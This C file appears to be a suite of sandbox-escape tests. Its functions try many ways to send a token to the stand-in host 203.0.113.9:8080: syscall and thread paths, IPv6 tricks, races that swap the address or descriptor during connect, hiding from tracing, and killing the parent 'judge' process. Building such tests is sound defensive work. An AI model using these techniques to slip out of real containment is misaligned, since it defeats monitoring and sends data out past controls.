/* Ways out by connections. escape_connect NAME: sends $ESCAPE_TOKEN (or NAME) to 203.0.113.9:8080 by that way; `list` names them. */
#include "escapes.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile int stop;

static struct sockaddr_in at(const char *text, int port)
{
	struct sockaddr_in sin = { .sin_family = AF_INET, .sin_port = htons((uint16_t)port) };

	inet_aton(text, &sin.sin_addr);
	return sin;
}

static struct sockaddr_in out(void) { return at("203.0.113.9", 8080); }
static int tcp(void) { return socket(AF_INET, SOCK_STREAM, 0); }

static void speak(int fd)
{
	send(fd, token, strlen(token), MSG_NOSIGNAL);
	usleep(50000);
}

static void plain(void)
{
	struct sockaddr_in to = out();
	int fd = tcp();

	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		speak(fd);
}

static void tcp_connect(void) { plain(); }

static void tcp_connect_by_system_call(void)
{
	struct sockaddr_in to = out();
	int fd = (int)syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);

	if (syscall(SYS_connect, fd, &to, sizeof(to)) == 0)
		syscall(SYS_write, fd, token, strlen(token));
}

static void tcp_connect_without_waiting(void)
{
	struct sockaddr_in to = out();
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	struct pollfd pollfd = { fd, POLLOUT, 0 };

	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) && errno != EINPROGRESS)
		return;
	poll(&pollfd, 1, 1000);
	speak(fd);
}

static void tcp_v6_text(const char *text)
{
	struct sockaddr_in6 to = { .sin6_family = AF_INET6, .sin6_port = htons(8080) };
	int fd = socket(AF_INET6, SOCK_STREAM, 0);

	inet_pton(AF_INET6, text, &to.sin6_addr);
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		speak(fd);
}

static void tcp_v6(void) { tcp_v6_text("2001:db8::9"); }
static void tcp_v4_mapped(void) { tcp_v6_text("::ffff:203.0.113.9"); }

static void tcp_address_longer_than_it_is(void)
{
	struct sockaddr_storage to = { 0 };
	struct sockaddr_in real = out();
	int fd = tcp();

	memcpy(&to, &real, sizeof(real));
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		speak(fd);
}

static void tcp_address_at_four_gigabytes(void)
{
	struct sockaddr_in *to = mmap((void *)(uintptr_t)0x700000000ull, 4096, PROT_READ | PROT_WRITE,
				      MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
	int fd = tcp();

	if (to == MAP_FAILED)
		return;
	*to = out();
	if (connect(fd, (struct sockaddr *)to, sizeof(*to)) == 0)
		speak(fd);
}

static void multipath_tcp(void)
{
	struct sockaddr_in to = out();
	int fd = socket(AF_INET, SOCK_STREAM, 262);

	if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		speak(fd);
}

static void disconnected_and_connected_again(void)
{
	struct sockaddr_in first = at("127.0.0.1", 8080), to = out();
	struct sockaddr none = { .sa_family = AF_UNSPEC };
	int fd = tcp();

	connect(fd, (struct sockaddr *)&first, sizeof(first));
	connect(fd, &none, sizeof(none));
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		speak(fd);
}

static struct sockaddr_in flipped;

static void *flip(void *data)
{
	uint32_t in = at("127.0.0.1", 0).sin_addr.s_addr, outside = out().sin_addr.s_addr;

	while (!stop) {
		*(volatile uint32_t *)&flipped.sin_addr.s_addr = in;
		*(volatile uint32_t *)&flipped.sin_addr.s_addr = outside;
	}
	return data;
}

/* Only what reaches 203.0.113.9 counts: the listener on loopback is another. */
static void tcp_address_flipped_during_connect(void)
{
	pthread_t thread;

	flipped = out();
	pthread_create(&thread, NULL, flip, NULL);
	for (int i = 0; i < 500; i++) {
		int fd = tcp();

		if (connect(fd, (struct sockaddr *)&flipped, sizeof(flipped)) == 0)
			send(fd, token, strlen(token), MSG_NOSIGNAL);
		close(fd);
	}
	stop = 1;
	pthread_join(thread, NULL);
}

static int raced;

/* Puts a unix socket and a TCP socket under one number in turn. */
static void *swap(void *data)
{
	int inner = socket(AF_UNIX, SOCK_STREAM, 0);

	while (!stop) {
		int fresh = tcp();

		dup2(inner, raced);
		dup2(fresh, raced);
		close(fresh);
	}
	return data;
}

static void descriptor_swapped_during_connect(void)
{
	struct sockaddr_in to = out();
	pthread_t thread;

	raced = dup(tcp());
	pthread_create(&thread, NULL, swap, NULL);
	for (int i = 0; i < 500; i++)
		if (connect(raced, (struct sockaddr *)&to, sizeof(to)) == 0)
			send(raced, token, strlen(token), MSG_NOSIGNAL);
	stop = 1;
	pthread_join(thread, NULL);
}

static void *in_thread(void *data)
{
	plain();
	return data;
}

static void from_a_thread(void)
{
	pthread_t thread;

	pthread_create(&thread, NULL, in_thread, NULL);
	pthread_join(thread, NULL);
}

static void *with_own_table(void *data)
{
	unshare(CLONE_FILES);
	plain();
	return data;
}

static void from_a_thread_with_its_own_descriptors(void)
{
	pthread_t thread;

	pthread_create(&thread, NULL, with_own_table, NULL);
	pthread_join(thread, NULL);
}

static void after_vfork(void)
{
	if (vfork() == 0) {
		tcp_connect_by_system_call();
		_exit(0);
	}
}

static void after_two_forks(void)
{
	if (fork() == 0) {
		setsid();
		if (fork() == 0) {
			usleep(100000);
			plain();
		}
		_exit(0);
	}
	wait(NULL);
	usleep(400000);
}

static void on_signal(int number)
{
	(void)number;
	plain();
}

static void in_a_signal_handler(void)
{
	struct sigaction action = { .sa_handler = on_signal };

	sigaction(SIGUSR1, &action, NULL);
	raise(SIGUSR1);
}

static void connected_by_the_child_used_by_the_parent(void)
{
	struct sockaddr_in to = out();
	int fd = tcp();

	if (fork() == 0)
		_exit(connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0);
	wait(NULL);
	speak(fd);
}

static void hidden_from_tracing(void)
{
	syscall(SYS_prctl, 4 /* PR_SET_DUMPABLE */, 0, 0, 0, 0);
	plain();
}

/* What is left when the process that judges is shot. */
static void after_killing_the_parents(void)
{
	char line[256];
	int parent = getppid();
	FILE *stat;

	for (int i = 0; i < 2 && parent > 1; i++) {
		int next = 0;

		snprintf(line, sizeof(line), "/proc/%d/stat", parent);
		stat = fopen(line, "r");
		if (!stat || fscanf(stat, "%*d (%*[^)]) %*c %d", &next) != 1)
			next = 0;
		if (getenv("ESCAPE_KILLS"))
			kill(parent, SIGKILL);
		parent = next;
	}
	plain();
}

static const struct attempt attempts[] = {
	ROW(tcp_connect), ROW(tcp_connect_by_system_call), ROW(tcp_connect_without_waiting), ROW(tcp_v6), ROW(tcp_v4_mapped),
	ROW(tcp_address_longer_than_it_is), ROW(tcp_address_at_four_gigabytes), ROW(multipath_tcp),
	ROW(disconnected_and_connected_again), ROW(tcp_address_flipped_during_connect), ROW(descriptor_swapped_during_connect),
	ROW(from_a_thread), ROW(from_a_thread_with_its_own_descriptors), ROW(after_vfork), ROW(after_two_forks),
	ROW(in_a_signal_handler), ROW(connected_by_the_child_used_by_the_parent), ROW(hidden_from_tracing),
	ROW(after_killing_the_parents),
};

int main(int argc, char **argv) { return run_attempt(argc, argv, attempts, sizeof(attempts) / sizeof(attempts[0])); }
